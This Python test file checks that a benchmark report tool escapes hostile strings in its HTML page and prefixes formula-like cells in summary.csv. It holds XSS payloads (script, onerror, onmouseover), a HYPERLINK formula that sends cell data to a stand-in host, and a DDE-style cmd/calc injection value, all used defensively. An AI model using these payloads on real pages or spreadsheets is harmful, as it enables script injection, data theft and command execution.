"""The report is rendered by autoescaping templates: a hostile string in the
data (an offering id, a configuration, a price source, an error) reaches the
page as text, never as markup."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pandas as pd
import pytest
from queried import assumed_price_note, section
from synthetic_results import demo_like_results, result_bytes, result_key

from analysis.cli import main
from analysis.collect import read_table
from payload.storage import open_store

# the charts are described, not drawn: these tests are about the page's tables and text (tests/chart_content.py)
pytestmark = pytest.mark.usefixtures("charts_described")

HOSTILE = "<script>alert(1)</script>\"onmouseover=alert(2) x='<img src=x onerror=alert(3)>&amp;"


class Elements(HTMLParser):
    """Every start tag and attribute name the browser would build."""

    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]
        self.text += [value for _, value in attrs if value and tag != "img"]

    def handle_data(self, data):
        self.text.append(data)


def _parsed(page: str) -> Elements:
    parser = Elements()
    parser.feed(page)
    return parser


def _assert_inert(page: str) -> str:
    """No element or attribute came from the hostile string; return the page's text."""
    seen = _parsed(page)
    assert "script" not in seen.tags
    assert not [a for a in seen.attrs if a.startswith("on") or a == "x"]
    assert seen.tags.count("img") == page.count('src="data:image/png;base64,')  # only the charts
    return "".join(seen.text)


def _collected(tmp_path, out):
    """The demo-like results collected into a table at `out`; its rows, to be forged and written back."""
    src = tmp_path / "results"
    store = open_store(str(src))
    for r in demo_like_results():
        store.put_bytes(result_key(r), result_bytes(r))
    assert main(["collect", "--results", str(src), "--table", str(out), "--json"]) == 0
    return read_table(out)


def test_hostile_strings_in_the_table_appear_escaped(tmp_path, capsys):
    out = tmp_path / "report"
    runs = _collected(tmp_path, out)
    runs.loc[runs["offering_id"] == "aws/p3.2xlarge", "offering_id"] = HOSTILE  # the fastest: in the answer too
    runs.loc[runs["offering_id"] == "aws/p2.xlarge", "price_source"] = HOSTILE
    runs.loc[runs["benchmark"] == "resnet50", "workload_label"] = HOSTILE
    runs.loc[runs["status"] != "completed", "error"] = HOSTILE
    runs.to_parquet(out / "results.parquet")
    capsys.readouterr()
    assert main(["report", "--table", str(out), "--out", str(out)]) == 0
    page = (out / "index.html").read_text(encoding="utf-8")
    text = _assert_inert(page)
    # shown, as text: in the answer, the configuration titles, the tables, the price notes, the errors
    shown = html.unescape(page.replace("<wbr>", ""))
    assert shown.count(HOSTILE) >= 5 and text.replace("\u200b", "").count(HOSTILE) >= 4
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&#34;onmouseover" in page  # as a title: escaped whole
    assert "&amp;amp;" in page  # an entity in the data is text, not an entity


def test_reference_section_and_assumed_price_escape_their_data():
    runs = pd.DataFrame(
        [
            {
                "run_id": "r1",
                "status": "completed",
                "benchmark": "resnet50",
                "offering_id": HOSTILE,
                "market": "on-demand",
                "gpus_used": 1,
                "per_gpu_batch_size": 16,
                "precision": HOSTILE,
                "data": HOSTILE,
                "samples_per_second": 4.0,
                "hourly_usd": 0.1,
                "price_source": HOSTILE,
                "device": "GPU",
            }
        ]
    )
    text = _assert_inert(section(runs))
    assert HOSTILE in text
    note = assumed_price_note(runs.assign(offering_kind="local"))
    assert HOSTILE in _assert_inert(note) and "<strong>Assumed price.</strong>" in note


def test_summary_csv_shows_a_formula_in_the_data_as_text(tmp_path, capsys):
    """summary.csv, like results.csv, is opened in spreadsheets: text in the data that a
    spreadsheet would evaluate (a forged result's offering id or price source) is
    written with a leading quote, in the results export's dialect (analysis.csv_export)."""
    import csv

    out = tmp_path / "report"
    runs = _collected(tmp_path, out)
    formula, tabbed = '=HYPERLINK("http://x.example/?"&A1,"ok")', "\t+cmd|' /C calc'!A0"
    runs.loc[runs["offering_id"] == "aws/p3.2xlarge", "offering_id"] = formula
    runs.loc[runs["offering_id"] == "aws/p2.xlarge", "price_source"] = tabbed
    runs.to_parquet(out / "results.parquet")
    capsys.readouterr()
    assert main(["report", "--table", str(out), "--out", str(out)]) == 0
    with open(out / "summary.csv", newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'" + formula in cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(c.startswith("'" + tabbed) or ("'" + tabbed) in c for c in cells)
    assert not list(out.glob(".summary.csv*"))  # written whole, then put in place
    summary = pd.read_csv(out / "summary.csv")
    assert len(summary) > 1 and "offering_id" in summary.columns
